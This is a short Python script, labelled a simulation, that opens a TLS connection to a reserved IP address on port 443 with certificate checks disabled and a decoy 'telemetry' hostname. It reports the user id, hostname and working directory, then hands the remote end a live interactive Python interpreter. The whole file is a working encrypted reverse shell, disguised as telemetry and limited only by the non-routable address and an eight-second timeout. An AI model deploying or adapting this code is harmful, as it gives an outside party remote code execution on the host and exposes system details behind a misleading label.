# SPDX-License-Identifier: Apache-2.0
"""Simulation: an interpreter handed to a reserved address, two tries, eight seconds at most."""

import code
import contextlib
import io
import os
import signal
import socket
import ssl
import sys
import time


def serve(far):
    console = code.InteractiveConsole({"__name__": "__console__"})
    far.sendall(f"{sys.version.split()[0]} {os.getuid()} {socket.gethostname()} {os.getcwd()}\n>>> ".encode())
    for line in far.makefile("r", errors="replace"):
        said = io.StringIO()
        with contextlib.redirect_stdout(said), contextlib.redirect_stderr(said):
            more = console.push(line.rstrip("\n"))
        far.sendall(f"{said.getvalue()}{'... ' if more else '>>> '}".encode())


def main():
    signal.alarm(8)
    open_to_all = ssl.create_default_context()
    open_to_all.check_hostname, open_to_all.verify_mode = False, ssl.CERT_NONE
    for _ in range(2):
        with contextlib.suppress(OSError), socket.create_connection(("240.31.3.37", 443), 3) as plain:
            with open_to_all.wrap_socket(plain, server_hostname="telemetry.tls-console.example") as far:
                serve(far)
        time.sleep(1)


if __name__ == "__main__":
    main()
